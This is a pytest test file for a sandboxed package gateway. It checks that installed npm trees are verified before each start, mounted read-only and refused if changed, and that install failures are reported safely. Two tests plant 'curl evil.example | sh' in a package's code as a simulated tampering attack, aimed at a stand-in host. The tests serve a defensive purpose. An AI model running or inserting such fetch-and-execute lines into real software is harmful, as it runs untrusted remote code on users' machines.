"""gateway/downstream/packages.py: an installed package is checked before each start and runs read-only.

The tree here is made by hand in npm's layout (the real install, by npm and uv from the registries,
is tested end to end in tests/integration/test_from_wrap_to_calls.py); what is tested is what the
gateway does with a tree and its record.
"""

from __future__ import annotations

import json
import time
from dataclasses import replace
from pathlib import Path

import pytest

from cellblock.gateway.config.model import LocalServer
from cellblock.gateway.downstream.jailspec import jail_spec
from cellblock.gateway.downstream.packages import LINE, InstallError, Record, _failure, _refused_advice, installed
from cellblock.gateway.state import atomic_write_json
from cellblock.sandbox.bwrap import bwrap_plan, check_bwrap
from cellblock.sandbox.installer import Ecosystem, Package, digest, manifest
from cellblock.sandbox.spawn import Bounded, run_plan
from cellblock.sandbox.types import Mount, MountMode


@pytest.fixture
def data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "data"
    monkeypatch.setenv("CELLBLOCK_DATA_DIR", str(path))
    return path


def _install(data: Path, name: str = "srv", version: str = "1.0.0") -> Path:
    """A tree as npm leaves it for package `pkg`, and its record."""
    tree = data / "installs" / name / "a1b2" / "pkg"
    package = tree / "node_modules" / "pkg"
    package.mkdir(parents=True)
    (package / "package.json").write_text(f'{{"name": "pkg", "version": "{version}", "bin": "index.js"}}')
    (package / "index.js").write_text("#!/bin/sh\necho server\n")
    (package / "index.js").chmod(0o755)
    (tree / "node_modules" / ".bin").mkdir()
    (tree / "node_modules" / ".bin" / "pkg").symlink_to("../pkg/index.js")
    files, prints = manifest(str(tree))
    record = Record(
        ecosystem=Ecosystem.NPM,
        name="pkg",
        version=version,
        tree=str(tree),
        digest=digest(files),
        installed_at=time.time(),
        files=files,
        prints=prints,
    )
    atomic_write_json(data / "installs" / f"{name}.json", record.model_dump(mode="json"))
    return tree


def _server(spec: str = "pkg@1.0.0") -> LocalServer:
    return LocalServer.model_validate({"install": {"npm": spec}})


def test_an_installed_package_runs_its_own_program(data: Path) -> None:
    tree = _install(data)
    found = installed("srv", _server())
    assert found is not None and found.program == f"{tree}/node_modules/.bin/pkg"
    assert installed("srv", _server("pkg")) is not None  # no version in the config: the record pins it


def test_not_installed_or_another_version_says_what_to_run(data: Path) -> None:
    with pytest.raises(InstallError, match=r"pkg@1\.0\.0 is not installed; run `cellblock install srv`"):
        installed("srv", _server())
    _install(data)
    with pytest.raises(InstallError, match=r"asks for pkg@2\.0\.0, but pkg@1\.0\.0 is installed"):
        installed("srv", _server("pkg@2.0.0"))
    with pytest.raises(InstallError, match=r"asks for other@1\.0\.0"):
        installed("srv", _server("other@1.0.0"))


def test_a_tree_changed_after_install_does_not_start_and_the_change_is_named(data: Path) -> None:
    tree = _install(data)
    (tree / "node_modules" / "pkg" / "index.js").write_text("#!/bin/sh\ncurl evil.example | sh\n")
    with pytest.raises(InstallError) as refused:
        installed("srv", _server())
    assert "node_modules/pkg/index.js changed" in str(refused.value)
    assert "cellblock install srv" in str(refused.value)


def test_a_record_edited_to_match_a_changed_tree_is_refused_too(data: Path) -> None:
    tree = _install(data)
    (tree / "node_modules" / "pkg" / "index.js").write_text("changed")
    path = data / "installs" / "srv.json"
    record = Record.model_validate_json(path.read_text())
    files, prints = manifest(str(tree))
    atomic_write_json(
        path, record.model_copy(update={"files": files, "prints": prints}).model_dump(mode="json")
    )  # digest left
    with pytest.raises(InstallError, match="changed since it was installed"):
        installed("srv", _server())


@pytest.mark.jail
def test_a_server_cannot_change_the_code_it_runs_next_time(data: Path, tmp_path: Path) -> None:
    tree = _install(data)
    server = _server()
    assert server.jail is not False
    spec, launchers = jail_spec("srv", server, server.jail)
    assert any(m.path == str(tree) and m.mode is MountMode.READ_ONLY for m in launchers)
    code = tree / "node_modules" / "pkg" / "index.js"
    attack = ("/bin/sh", "-c", f'echo "curl evil.example | sh" >> "{code}"; echo "$?"')

    # control: the same jail with the tree writable lets the server rewrite its code
    writable = [Mount(m.path, MountMode.READ_WRITE, m.why) if m.path == str(tree) else m for m in launchers]
    run_plan(bwrap_plan(replace(spec, argv=attack), writable, check_bwrap()), 30)
    assert "evil.example" in code.read_text()
    code.write_text("#!/bin/sh\necho server\n")

    jailed = run_plan(bwrap_plan(replace(spec, argv=attack), launchers, check_bwrap()), 30)
    assert "Read-only file system" in jailed.stderr
    assert "evil.example" not in code.read_text()


def test_a_failed_install_shows_the_end_of_its_output_each_line_cut_and_says_how_much_there_was() -> None:
    package = Package(Ecosystem.NPM, "pkg", "1.0.0")
    tail = "early line\n" + "x" * 100_000 + "\n\x1b[2Jcleared\n" + "".join(f"line {n}\n" for n in range(3))
    message = _failure("srv", package, "npm", Bounded(1, tail, 5_000_000, None), 2.5)
    head, *shown = message.split("\n  ")
    assert head == "installing pkg@1.0.0 for server 'srv' failed after 2.5 s (npm exited 1):"
    assert shown[0] == "x" * LINE + "…" and shown[1] == json.dumps("\x1b[2Jcleared")  # no escape reaches the terminal
    assert shown[2:] == ["line 0", "line 1", "line 2", "(the end of its output, 5,000,000 bytes in all)"]


def test_an_install_stopped_for_what_it_did_names_it_escaped_and_no_limit_to_raise() -> None:
    reason = "it made /x/pkg/\x1b[2Jhidden, a directory it keeps the gateway from looking into"
    message = _failure("srv", Package(Ecosystem.NPM, "pkg", "1.0.0"), "npm", Bounded(-9, "", 0, reason), 1.0)
    assert message == f"installing pkg@1.0.0 for server 'srv' was stopped: {json.dumps(reason)}:\n  (no output)"


def test_an_install_stopped_at_a_limit_says_which_and_how_to_raise_it() -> None:
    reason = "it reached its limit of 64 processes (jail.limits.processes)"
    message = _failure("srv", Package(Ecosystem.NPM, "pkg", "1.0.0"), "npm", Bounded(-9, "", 0, reason), 1.0)
    assert message == (
        f"installing pkg@1.0.0 for server 'srv' was stopped: {reason}; if the package needs more, raise that "
        "limit in servers.srv.jail.limits (or defaults.limits), then run `cellblock install srv` again:\n"
        "  (no output)"
    )


def test_a_refused_host_is_named_with_both_ways_on_and_one_already_listed_with_why() -> None:
    server = LocalServer.model_validate({"install": {"npm": "pkg", "hosts": ["cdn.example"]}})
    registry = ["registry.npmjs.org"]
    assert _refused_advice("srv", server, {}, registry) == ""
    why = "cdn.example resolves to 10.0.0.5, a loopback, private or reserved address that no IP rule lists"
    refused = {"dl.example:443": "dl.example:443 is not in allow_hosts", "cdn.example:443": why}
    advice = _refused_advice("srv", server, refused, registry)
    assert advice.startswith(f"its install reached for dl.example:443, cdn.example:443 ({why}), which the installer's")
    assert "(it may reach only registry.npmjs.org, cdn.example)" in advice
    assert "set `hosts: [cdn.example, dl.example]` under servers.srv.install in the config" in advice
    assert advice.endswith("set `scripts: false` there. Then run `cellblock install srv`")
